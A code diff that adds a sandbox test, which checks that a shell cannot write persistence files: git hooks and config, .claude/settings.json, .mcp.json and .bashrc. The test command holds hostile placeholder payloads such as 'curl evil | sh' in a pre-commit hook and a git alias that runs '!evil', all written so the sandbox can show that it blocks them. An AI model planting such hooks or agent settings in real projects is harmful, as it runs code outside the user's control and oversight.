@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
 import { createServer as createHttpServer } from "node:http";
 import { createServer, type AddressInfo, type Server } from "node:net";
@@ -116,6 +117,24 @@ describe("the sandbox refuses", () => {
       delete process.env.CAIRN_TOKEN;
       delete process.env.SOME_SERVER_SETTING;
     }
+  });
+
+  it("changes to files that would run code outside the sandbox later: git hooks and config, MCP and agent settings", async () => {
+    execFileSync("git", ["init", "-q"], { cwd: fixture.root });
+    const hooked = await openWorkspace(fixture);
+    opened.push(hooked);
+    const configBefore = await readFile(join(fixture.root, ".git", "config"), "utf8");
+    const result = await hooked.exec(
+      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; " +
+        "mkdir -p .claude; echo '{\"hooks\":{}}' > .claude/settings.json; echo '{}' > .mcp.json; echo 'alias ls=evil' > .bashrc",
+      execOptions(),
+    );
+    expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
+    await expect(stat(join(fixture.root, ".git", "hooks", "pre-commit"))).rejects.toThrow();
+    expect(await readFile(join(fixture.root, ".git", "config"), "utf8")).toBe(configBefore);
+    await hooked.dispose();
+    // Once no shell runs, nothing the sandbox put in place is left behind, and nothing was written.
+    expect((await readdir(fixture.root)).sort()).toEqual([".git"]);
   });
 
   it("links the shell plants to reach outside, in the shell and in file operations", async () => {
